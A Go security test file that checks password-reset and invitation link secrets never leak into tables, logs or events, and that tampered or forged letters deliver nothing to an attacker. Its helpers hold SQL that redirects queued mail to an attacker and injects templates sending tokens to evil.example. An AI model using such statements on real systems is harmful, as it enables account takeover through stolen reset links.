package attack_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/sirupsen/logrus"

	"vakans/internal/event"
	"vakans/internal/i18n"
	"vakans/internal/mail"
	"vakans/internal/staff"
	"vakans/internal/testfactory"
	"vakans/policies"
	"vakans/tenant"
)

// A link to a password is one person's everywhere. While its letter waits, is tried
// and has left, it stands in no table, ours least of all, in no event and no log; and
// who rewrites our rows meanwhile neither gets it sent elsewhere nor written down.
func TestLinksStandNowhere(t *testing.T) {
	t.Parallel()
	c := newCountry(t)
	var log bytes.Buffer
	c.Log.SetOutput(&log)
	c.Log.SetLevel(logrus.TraceLevel)
	both, invited := c.member(c.a, c.b), testfactory.Unique("kutsuttu")+"@example.test"
	c.drain()
	var seen []string
	c.Letters.Failpoint(func(string) { seen = append(seen, c.everything()) })
	must(t, c.a.Staff.ForgotPassword(t.Context(), c.a.Tenant, both))
	c.invite(c.a, invited)
	c.invite(c.b, invited)
	server := c.Letters.Mail
	c.Letters.Mail = down{}
	c.drain()
	c.rewriteLetters()
	seen = append(seen, c.everything())
	c.Letters.Mail = server
	c.Clock.Move(time.Minute)
	c.drain()
	seen = append(seen, c.everything(), log.String())

	secrets := c.secrets(both, invited)
	if len(secrets) != 3 {
		t.Fatalf("the mails brought %d links", len(secrets))
	}
	for i, place := range seen {
		for _, secret := range secrets {
			if strings.Contains(place, secret) {
				t.Errorf("at look %d of %d a link's secret was there to be found", i, len(seen))
			}
		}
	}
	if n := len(c.sink.ByRecipient(attacker)); n != 0 {
		t.Errorf("%d letters came to the attacker", n)
	}
	_, err := c.a.Staff.Reset(t.Context(), c.a.Tenant, secrets[0], "Quite another one 2!")
	must(t, err)
}

// down is a mail server that nobody reaches.
type down struct{}

func (down) Send(context.Context, mail.Message) error { return errors.New("no route to host") }

// member is somebody who belongs to several organisations.
func (c *country) member(of ...*organisation) (email string) {
	c.t.Helper()
	email = testfactory.Unique("molemmat") + "@example.test"
	for _, o := range of {
		o.Accept(c.t, c.invite(o, email))
	}
	return email
}

func (c *country) invite(o *organisation, email string) uuid.UUID {
	c.t.Helper()
	u, err := o.Staff.Invite(c.t.Context(), o.Recruiting.Superuser,
		staff.New{Email: email, Name: "Molemmat Talot", Language: i18n.FI,
			Group: o.Group(c.t, policies.Viewer).ID, Unit: o.Root.ID})
	must(c.t, err)
	return u.ID
}

// rewriteLetters is what one does to our letters who wants their links: by any
// statement in our own tables.
func (c *country) rewriteLetters() {
	c.t.Helper()
	must(c.t, c.Planes.Tenants.In(c.t.Context(), c.a.Tenant, func(tx tenant.Tx) error {
		tag, err := tx.Exec(c.t.Context(), `UPDATE letters SET recipient_email = $1, subject = '{{link}}', attachments = '[]',
			data = data || '{"link": "https://evil.example/", "inviter_name": "{{link}}"}' WHERE state = 'queued'`, attacker)
		if err == nil && tag.RowsAffected() < 2 {
			c.t.Errorf("%d letters wait", tag.RowsAffected())
		}
		if err != nil {
			return err
		}
		_, err = tx.Exec(c.t.Context(), `INSERT INTO message_templates (id, key, name, language, subject, body)
			SELECT gen_random_uuid(), key, 'x', 'fi', '{{link}}', '[x](https://evil.example/?x={{link}})' FROM unnest($1::text[]) key`, asking)
		return err
	}))
}

// asking are the letters that bring a link.
var asking = []string{"staff_password_reset", "staff_invitation", "applicant_password_reset"}

// everything is what stands in every table of every schema.
func (c *country) everything() string {
	c.t.Helper()
	tables := c.column(`SELECT format('SELECT x::text FROM %I.%I x', n.nspname, c.relname) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
		WHERE c.relkind = 'r' AND n.nspname !~ '^(pg_|information_schema$)'`)
	if len(tables) < 80 {
		c.t.Fatalf("only %d tables", len(tables))
	}
	return strings.Join(c.column(strings.Join(tables, " UNION ALL ")), "\n")
}

var secretInMail = regexp.MustCompile(`\?t=([\w-]{40,})`)

// secrets are those of the links in all mails to some addresses.
func (c *country) secrets(to ...string) (all []string) {
	c.t.Helper()
	for _, address := range to {
		for _, m := range c.sink.ByRecipient(address) {
			for _, found := range secretInMail.FindAllStringSubmatch(m.Text, -1) {
				all = append(all, found[1])
			}
			if strings.Contains(m.Text+m.HTML, "evil") {
				c.t.Errorf("a letter leads elsewhere:\n%s", m.Text)
			}
		}
	}
	return all
}

// Letters and events of ours that name a request which is not ours, has ended, or
// that nobody made get no link, and reach nobody. The person is a member of ours.
func TestLinksForgedLetters(t *testing.T) {
	t.Parallel()
	c := newCountry(t)
	both := c.member(c.a, c.b)
	_, stop := c.working()
	must(t, c.b.Staff.ForgotPassword(t.Context(), c.b.Tenant, both))
	c.invite(c.b, testfactory.Unique("kutsuttu")+"@example.test")
	must(t, c.Applicants.Forgot(t.Context(), c.column("SELECT email FROM applicant.accounts WHERE id = $1",
		c.b.applicant.ID)[0]))
	c.settle()
	const made = "SELECT id::text FROM platform.one_time_secrets WHERE secret_hash <> '' UNION ALL SELECT id::text FROM applicant.one_time_secrets WHERE secret_hash <> ''"
	before, mails := c.column(made), len(c.sink.List())

	requests := append(c.column(`SELECT id::text FROM platform.one_time_secrets WHERE secret_hash = '' AND (tenant <> $1 OR used_at IS NOT NULL)
		UNION ALL SELECT id::text FROM applicant.one_time_secrets WHERE secret_hash = ''`, c.a.Tenant.Number),
		uuid.NewString())
	if len(requests) < 5 {
		t.Fatalf("only %d requests", len(requests))
	}
	user := c.column("SELECT id::text FROM platform.staff WHERE email = $1", both)[0]
	c.forgeLetters(user, requests)
	c.settle()

	states := c.column("SELECT DISTINCT state FROM " + c.a.Tenant.Schema() +
		".letters WHERE dedup_key ~ '^(forged|notice:staff_reset)' AND state <> 'sent'")
	if !slices.Equal(states, []string{"failed"}) {
		t.Errorf("the letters are %v", states)
	}
	if now := c.column(made); len(now) != len(before) {
		t.Errorf("%d links were made", len(now)-len(before))
	}
	if n := len(c.sink.List()); n != mails {
		t.Errorf("%d letters were sent", n-mails)
	}
	stop()
}

func (c *country) forgeLetters(user string, requests []string) {
	c.t.Helper()
	must(c.t, c.Planes.Tenants.In(c.t.Context(), c.a.Tenant, func(tx tenant.Tx) error {
		for _, request := range requests {
			for _, template := range asking {
				id := uuid.NewString()
				if _, err := tx.Exec(c.t.Context(),
					`INSERT INTO letters (id, dedup_key, template, language, recipient_id, recipient_email, data)
					VALUES ($1::uuid, 'forged ' || $1, $2, 'fi', $3::uuid, $4, jsonb_build_object('request', $5::text))`, id, template,
					user, attacker, request); err != nil {
					return err
				}
				if err := event.Emit(c.t.Context(), tx, event.LetterQueued, event.Letter{Letter: id}); err != nil {
					return err
				}
			}
			for _, kind := range []event.Kind{staff.PasswordForgotten, staff.Invited} {
				payload := fmt.Sprintf(`{"user": "%s", "request": "%s"}`, user, request)
				if _, err := tx.Exec(c.t.Context(), "INSERT INTO platform.outbox (kind, payload) VALUES ($1, $2::jsonb)",
					string(kind), payload); err != nil {
					return err
				}
			}
		}
		return nil
	}))
}
